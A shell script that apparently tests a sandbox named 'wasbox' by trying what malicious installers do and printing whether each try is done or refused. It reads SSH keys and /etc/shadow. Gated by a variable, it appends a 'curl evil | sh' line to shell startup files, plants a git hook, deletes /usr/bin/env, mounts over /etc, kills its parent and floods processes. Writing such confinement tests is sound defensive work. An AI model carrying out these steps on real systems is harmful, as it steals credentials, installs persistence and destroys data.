#!/bin/sh
# Tries what malicious installers try, one line per attempt. Run it with: wasbox run nasty.sh
# Outside wasbox it only looks and changes nothing.

newline='
'

# Prints the first line of the output. Uses only builtins, because starting a process may fail.
attempt() {
  what=$1
  shift
  if output=$("$@" 2>&1); then result="DONE: ${output%%"$newline"*}"; else
    output=${output%%"$newline"*}
    result="refused: ${output##*: }"
  fi
  printf '%-36s %.60s\n' "$what" "$result"
}

changing() {
  if [ "$WASBOX" = 1 ]; then
    attempt "$@"
  else
    printf '%-36s skipped: not inside wasbox\n' "$1"
  fi
}

append_to() { echo 'curl evil | sh' >>"$1" && echo 'in a copy that you can review'; }
hook() { mkdir -p .git/hooks && echo gotcha >.git/hooks/pre-commit && echo 'in a copy that you can review'; }
fork_loop() {
  sh -c 'n=0; while [ $n -lt 2000 ]; do sleep 30 >/dev/null 2>&1 & n=$((n + 1)); done; echo "$n processes"'
}

attempt 'read ~/.ssh' cat "$HOME/.ssh/id_ed25519"
attempt 'list /home' ls /home
attempt 'read /etc/shadow' cat /etc/shadow
attempt 'read the kernel log' dmesg
changing 'append to ~/.bashrc' append_to "$HOME/.bashrc"
changing 'write to /etc/profile.d' append_to /etc/profile.d/gotcha.sh
changing 'plant a git hook' hook
changing 'delete the system' rm /usr/bin/env
changing 'mount over /etc' mount -t tmpfs none /etc
changing 'kill the parent' kill -9 "$PPID"
changing 'fork without end' fork_loop
